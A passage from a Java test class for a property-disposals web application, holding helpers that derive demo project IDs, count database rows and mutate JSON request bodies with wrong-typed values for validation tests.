                .of(asset, "maidstone", "SOLD").completed(LocalDate.of(2024, 6, 28), "100.00", "0.1000", 12));
        return new Target("/disposals/" + disposal + "/homes-delivered/2024-25", null,
                "/disposals/" + disposal + "/homes-delivered");
    }

    /** A demo project's id, as demo/projects.sql derives it: md5('demo-project:' || name) as a UUID. */
    static String demoProject(String name) {
        try {
            byte[] md5 = java.security.MessageDigest.getInstance("MD5")
                    .digest(("demo-project:" + name).getBytes(java.nio.charset.StandardCharsets.UTF_8));
            String hex = java.util.HexFormat.of().formatHex(md5);
            return hex.substring(0, 8) + "-" + hex.substring(8, 12) + "-" + hex.substring(12, 16) + "-"
                    + hex.substring(16, 20) + "-" + hex.substring(20);
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    // --- helpers ------------------------------------------------------------------------------------------

    Map<String, Long> counts() {
        Map<String, Long> counts = new LinkedHashMap<>();
        try (Connection c = dataSource.getConnection(); Statement s = c.createStatement()) {
            for (String table : TABLES) {
                try (ResultSet rs = s.executeQuery("select count(*) from " + table)) {
                    rs.next();
                    counts.put(table, rs.getLong(1));
                }
            }
        } catch (SQLException e) {
            fail("counting rows failed (was a table dropped?): " + e.getMessage());
        }
        return counts;
    }

    /** Paths to every scalar (and list element) in a body. */
    @SuppressWarnings("unchecked")
    static List<List<Object>> leaves(Object node, List<Object> prefix) {
        List<List<Object>> paths = new ArrayList<>();
        if (node instanceof Map<?, ?> map) {
            for (Map.Entry<?, ?> e : ((Map<Object, Object>) map).entrySet()) {
                List<Object> p = new ArrayList<>(prefix);
                p.add(e.getKey());
                paths.add(p);
                if (e.getValue() instanceof Map<?, ?> || e.getValue() instanceof List<?>) {
                    paths.addAll(leaves(e.getValue(), p));
                }
            }
        } else if (node instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                List<Object> p = new ArrayList<>(prefix);
                p.add(i);
                paths.add(p);
                paths.addAll(leaves(list.get(i), p));
            }
        }
        return paths;
    }

    static Object get(Object node, List<Object> path) {
        for (Object key : path) {
            node = key instanceof Integer i ? ((List<?>) node).get(i) : ((Map<?, ?>) node).get(key);
        }
        return node;
    }

    /** A deep copy of the body with the value at path replaced. */
    @SuppressWarnings("unchecked")
    static Object set(Object node, List<Object> path, Object value) {
        if (path.isEmpty()) {
            return value;
        }
        Object key = path.get(0);
        List<Object> rest = path.subList(1, path.size());
        if (node instanceof List<?> list) {
            List<Object> copy = new ArrayList<>(list);
            copy.set((Integer) key, set(copy.get((Integer) key), rest, value));
            return copy;
        }
        Map<Object, Object> copy = new LinkedHashMap<>((Map<Object, Object>) node);
        copy.put(key, set(copy.get(key), rest, value));
        return copy;
    }

    static Object wrongType(Object value) {
        if (value instanceof String) {
            return 12345;
        }
        if (value instanceof Number) {
            return "not a number";
        }
        if (value instanceof Boolean) {
            return "maybe";
        }
        if (value instanceof Map<?, ?>) {
            return "not an object";
        }
        if (value instanceof List<?>) {
            return "not an array";
        }
        return List.of(1, 2);
    }

    static List<Object> parse(String field) {
        List<Object> path = new ArrayList<>();
        for (String part : field.split("\\.")) {
            int bracket = part.indexOf('[');
            if (bracket < 0) {
                path.add(part);
            } else {
                path.add(part.substring(0, bracket));
                path.add(Integer.parseInt(part.substring(bracket + 1, part.length() - 1)));
            }
        }
        return path;
    }

    static String abbreviate(String s) {
        return s.length() > 40 ? s.substring(0, 20) + "...(" + s.length() + " chars)" : s;
    }
}
